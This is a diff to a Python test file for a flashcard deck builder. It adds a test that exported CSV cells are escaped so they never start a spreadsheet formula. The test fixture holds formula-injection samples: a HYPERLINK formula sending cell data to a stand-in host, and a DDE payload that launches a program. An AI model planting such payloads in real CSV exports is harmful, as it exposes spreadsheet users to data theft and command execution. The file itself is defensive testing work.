@@ -3,6 +3,7 @@ importer (`get_csv_metadata` reads its header lines, `import_csv` imports it), a
 
 from __future__ import annotations
 
+import argparse
 import csv
 import json
 from pathlib import Path
@@ -11,10 +12,12 @@ import pytest
 import yaml
 from anki.collection import ImportCsvRequest
 from anki_import import fresh_collection, import_package
+from conftest import make_content
 
-from build_decks import cli
+from build_decks import cli, render
 from build_decks.loader import load_content
 from build_decks.render import anki, anki_text, csv_table
+from build_decks.render.markup import to_html
 
 SCHEDULE = "select id, did, ivl, due, type, queue, reps from cards order by id"
 
@@ -101,12 +104,83 @@ def test_csv_has_one_row_per_card_with_the_yamls_text(fixture_content: Path,
         rows = list(csv.reader(stream))
     assert rows[0] == ["question", "answer", "topic", "tags"]
     titles = {t.id: t.title for t in content.topics}
-    assert rows[1:] == [[c.front, c.back, titles[c.topic], " ".join(c.tags)]
-                        for c in content.cards if c.kind != "cloze"]
+    cards = [c for c in content.cards if c.kind != "cloze"]
+    assert rows[1:] == [[csv_table.cell(t) for t in (c.front, c.back, titles[c.topic],
+                                                     " ".join(c.tags))] for c in cards]
+    plain = [(row, c) for row, c in zip(rows[1:], cards, strict=True)
+             if not c.back.startswith(csv_table.FORMULA_STARTS)]
+    assert plain and all(row[1] == c.back for row, c in plain)  # the YAML's text as it is
     assert any("\n" in answer for _, answer, _, _ in rows[1:])  # multi-line answers kept whole
 
 
-def test_csv_blanks_cloze_deletions() -> None:
-    assert csv_table.blanked("A {{c1::model}} serves {{c2::requests::what?}} fast") == \
-        "A […] serves [what?] fast"
-    assert csv_table.blanked("{{c1::outer {{c2::inner}} text}} end") == "[…] end"
+HOSTILE_DECK = r"""title: Formulas
+cards:
+- id: f-hyperlink
+  kind: qa
+  topic: serving
+  question: '=HYPERLINK("http://x.example/?"&B2,"Click")'
+  answer: "- logged\n- never returned\n\n  - nested stays\n- last"
+- id: f-cmd
+  kind: qa
+  topic: serving
+  question: "@SUM(1+1)*cmd|' /C calc'!A0"
+  answer: "+1 and -1"
+- id: f-negative
+  kind: qa
+  topic: serving
+  question: What is the log-loss of a sure wrong answer?
+  answer: "-inf, in theory"
+- id: f-plus-list
+  kind: qa
+  topic: serving
+  question: Name two.
+  answer: "+ one\n+ two"
+- id: f-thematic
+  kind: qa
+  topic: serving
+  question: A list that would become a rule
+  answer: "- * *"
+- id: f-tab
+  kind: term
+  topic: serving
+  term: "=1+1"
+  definition: "=2+2"
+"""
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path,
+                                         capsys: pytest.CaptureFixture) -> None:
+    content_root = make_content(tmp_path, {})
+    (content_root / "decks").mkdir()
+    (content_root / "decks" / "formulas.yaml").write_text(HOSTILE_DECK, encoding="utf-8")
+    build(content_root, "csv", capsys=capsys)
+    path = tmp_path / "dist" / csv_table.file_name(load_content(content_root))
+    with path.open(encoding="utf-8", newline="") as stream:
+        rows = {row[0]: row[1] for row in list(csv.reader(stream))[1:]}
+    assert not [cell for row in rows.items() for cell in row
+                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert rows['\'=HYPERLINK("http://x.example/?"&B2,"Click")'] == (
+        "* logged\n* never returned\n\n  - nested stays\n* last")  # the same list
+    assert rows["'@SUM(1+1)*cmd|' /C calc'!A0"] == "'+1 and -1"
+    assert rows["What is the log-loss of a sure wrong answer?"] == "'-inf, in theory"
+    assert rows["Name two."] == "* one\n* two"
+    assert rows["A list that would become a rule"] == "'- * *"  # `* * *` is a rule: quoted
+    assert rows["'=1+1"] == "'=2+2"
+    # the loader strips a field's outer blanks; a tab or carriage return in front is quoted too
+    assert csv_table.cell("\t=1+1") == "'\t=1+1" and csv_table.cell("\r=1") == "'\r=1"
+    for question in ("Name two.", '\'=HYPERLINK("http://x.example/?"&B2,"Click")'):
+        card = next(c for c in load_content(content_root).cards if question.endswith(c.front))
+        assert to_html(rows[question]) == to_html(card.back)  # Markdown readers see the same
+
+
+def test_one_build_makes_one_package_for_the_deck_and_the_text_file(
+        qa_content: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    made = []
+    package = anki._package
+    monkeypatch.setattr(anki, "_package", lambda *a: made.append(a) or package(*a))
+    content, options = render.prepare(qa_content, tmp_path / "dist")
+    render.build(["anki", "anki-text"], content, options, argparse.Namespace())
+    assert len(made) == 1  # shared by both outputs
+    render.build(["anki-text"], *render.prepare(qa_content, tmp_path / "dist"),
+                 argparse.Namespace())
+    assert len(made) == 2  # a new build, a new package
